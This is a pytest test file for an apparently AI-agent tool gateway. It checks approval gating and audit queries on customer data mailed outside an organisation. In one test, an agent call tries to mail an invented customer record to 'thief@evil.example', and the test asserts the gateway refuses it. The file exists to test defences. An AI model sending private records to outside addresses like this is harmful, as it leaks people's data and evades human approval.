"""Who sent data of the customer database outside, under which policy, who approved it?"""

import json
import re
from collections.abc import Iterator, Mapping
from contextlib import ExitStack
from typing import Any

import pytest
from aiohttp import web

from tests.e2e.own import until
from tests.e2e.posting import Poster
from tests.e2e.scripted import FRESH, answer, behaves, raw_in_a_thread, told
from tests.e2e.site import Corridor
from tests.running import ALL, rules_in, running_gateway
from tests.servers.raw import Script

SCHEMA = {
    "type": "object",
    "properties": {
        "id": {"type": "string"},
        "to": {"type": "array", "items": {"type": "string"}},
        "body": {"type": "string"},
    },
}
CUSTOMER = "Customer 17: Ada Field, 3 Mill Lane, owes 4,500 since March."
ADDRESS = "collect@agency.example"
SERVERS: Mapping[str, Mapping[str, Any]] = {
    "crm": {
        "get_customer": {
            "effect": "read",
            "result": {"integrity": "trusted", "confidentiality": "private"},
        }
    },
    "mail": {
        "send_email": {"effect": "egress", "destination": ["to"], "payload": ["body"]},
    },
}
LINES, COLUMNS = 30, 80


def plays(tool: str, text: str) -> Script:
    """A server with one tool, which says `text`."""

    async def script(request: web.Request) -> web.StreamResponse:
        message = json.loads(await request.read() or b"{}")
        if message.get("method") == "tools/list":
            return answer(message, {"tools": [{"name": tool, "inputSchema": SCHEMA}], **FRESH})
        if message.get("method") == "tools/call":
            return answer(message, told(text))
        return await behaves(request)

    return script


@pytest.fixture(scope="module")
def corridor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corridor]:
    folder = tmp_path_factory.mktemp("outside")
    rules_in(folder / "policies")
    with ExitStack() as stack:
        servers = {}
        for name, tools in SERVERS.items():
            upstream = stack.enter_context(raw_in_a_thread())
            (tool,) = tools
            upstream.play(plays(tool, CUSTOMER if name == "crm" else "sent"))
            servers[name] = {"url": upstream.url, "tools": dict(tools)}
        running = stack.enter_context(
            running_gateway(
                folder / "gateway",
                servers,
                policies=folder / "policies",
                approvals={"most_waiting": 100, "most_per_hour": 100},
            )
        )
        for name in servers:
            running.approve_all(name)
        yield Corridor(running)


@pytest.fixture(scope="module")
def story(corridor: Corridor) -> dict[str, Any]:
    """Somebody reads of a customer and mails it: asked, allowed by a person, sent; once refused."""
    agent = Poster(corridor, ALL)
    mail = {"to": [ADDRESS], "body": CUSTOMER}
    assert agent.call("crm__get_customer", {"id": "17"}).refusal is None
    asked = agent.call("mail__send_email", mail)
    assert asked.refusal == "approval_required", asked.json
    id_ = asked.json["result"]["_meta"]["douane/refusal"]["approval_id"]
    corridor.running.rows("approvals", "allow", id_, "--note", "agency has a contract")
    assert agent.call("mail__send_email", mail).refusal is None
    assert agent.call("mail__send_email", {**mail, "to": ["thief@evil.example"]}).refusal
    return {"approval": id_, "principal": corridor.running.client(ALL)["client_id"]}


def test_one_command_answers_on_one_screen(corridor: Corridor, story: dict[str, Any]) -> None:
    asked = ("audit", "ask", "sent-outside", "--from", "crm", "--since", "7d")
    until(lambda: all(row["signed"] for row in corridor.running.rows(*asked)))
    done = corridor.running.douane(*asked)
    assert (done.returncode, done.stderr) == (0, "there may be more: --after " + _cursor(done))
    lines = done.stdout.splitlines()
    assert len(lines) <= LINES
    assert max(map(len, lines)) <= COLUMNS
    (sent,) = [block for block in done.stdout.split("\n\n") if "Z SENT: " in block]
    assert "Z SENT: agent-all\n" in sent
    expected = [
        r"through +client agent-all, from 127\.0\.0\.1",
        r"data of +crm/get_customer; run is \w+ private",
        r"sent by +mail/send_email \(egress\)",
        r"to +\$\.to\[0\] .*\(unproven\)",
        r"policy +sha256:[0-9a-f]{12} since [-0-9T:]+Z",
        r'approved +by \w+:\w+ at [-0-9T:]+Z "agency has a contract"',
        r"record +[0-9a-f]{32} \(leaf \d+, signed\)",
    ]
    for line in expected:
        assert re.search(line, sent), (line, sent)
    assert done.stdout.count("NOT SENT (ask)") == 2
    assert (
        f'"agency has a contract" ({story["approval"]})'
        in corridor.running.douane(*asked, "--wide").stdout
    )


def _cursor(done: Any) -> str:
    return str(done.stderr.removeprefix("there may be more: --after "))


def test_the_same_as_json_for_what_was_sent_and_for_what_was_refused(
    corridor: Corridor, story: dict[str, Any]
) -> None:
    asked = ("audit", "ask", "sent-outside", "--from", "crm", "--verdict")
    (sent,) = corridor.running.rows(*asked, "allowed")
    assert sent["principal"] == story["principal"]
    assert (sent["server"], sent["tool"], sent["verdict"]) == ("mail", "send_email", "allow")
    approval = sent["approval"]
    assert (approval["id"], approval["answer"]) == (story["approval"], "allowed")
    policy = corridor.running.rows("policy", "status")[0]
    assert sent["policy_digest"] == policy["digest"]
    assert sent["policy_since"] is not None
    refused = corridor.running.rows(*asked, "refused")
    assert [row["went_out"] for row in refused] == [False, False]
    assert refused[0]["approval"]["answer"] is None
    assert refused[1]["approval"] == approval
    assert corridor.running.rows("audit", "ask", "sent-outside", "--from", "nowhere") == []


def test_the_value_is_nowhere_in_the_answer_and_is_found_by_its_hash(
    corridor: Corridor, story: dict[str, Any]
) -> None:
    assert story
    done = corridor.running.douane("audit", "ask", "sent-outside", "--from", "crm", "--json")
    assert ADDRESS not in done.stdout
    assert CUSTOMER not in done.stdout
    found = corridor.running.rows("audit", "ask", "where-went", ADDRESS)
    assert {"arguments.to[0]"} <= {path for row in found for path in row["where"]}
    where = ("--where", f"arguments.to = '{ADDRESS}' and kind = intent")
    (record,) = corridor.running.rows("audit", "query", *where)
    assert record["target"] == "send_email"


def test_every_question_is_one_command(corridor: Corridor, story: dict[str, Any]) -> None:
    who = story["principal"]
    rows = corridor.running.rows
    (called,) = rows("audit", "ask", "who-called", "mail", "send_email")
    assert (called["principal"], called["calls"], called["refused"]) == (who, 3, 2)
    assert {row["rule"] for row in rows("audit", "ask", "denied", "--by-rule")}
    assert {row["verdict"] for row in rows("audit", "ask", "denied")} <= {"ask", "deny", "error"}
    (flow,) = rows("audit", "ask", "flows", "--from", "crm", "--to", "mail")
    assert (flow["tool"], flow["calls"], flow["refused"], flow["outside"]) == (
        "send_email",
        3,
        2,
        3,
    )
    assert (who, 4) in [(r["name"], r["calls"]) for r in rows("audit", "ask", "top")]
    named = rows("audit", "ask", "top", "--by", "tool")
    assert ("mail", "send_email", 3) in [(r["server"], r["name"], r["calls"]) for r in named]
    timeline = rows("audit", "ask", "timeline", who, "--limit", "100")
    assert {row["principal"] for row in timeline} == {who}
    (run,) = {row["run"] for row in timeline if "run" in row}
    assert {step["target"] for step in rows("audit", "ask", "run", run)} >= {"send_email"}


def test_reads_are_on_record_and_a_tail_is_one_of_them(corridor: Corridor) -> None:
    rows = corridor.running.rows
    rows("audit", "query", "--where", "arguments.to = 'someone@example.com'", "--server", "mail")
    rows("audit", "tail", "--lines", "3")
    reads = rows("audit", "query", "--where", "kind = admin and code = read", "--limit", "2")
    assert [row["method"] for row in reads] == ["audit.tail", "audit.query"]
    told_ = reads[1]["reasons"][0]["message"]
    assert 'server = "mail", arguments.to = h1:' in told_
    assert "someone" not in told_
    assert reads[0]["principal"].startswith("os:")
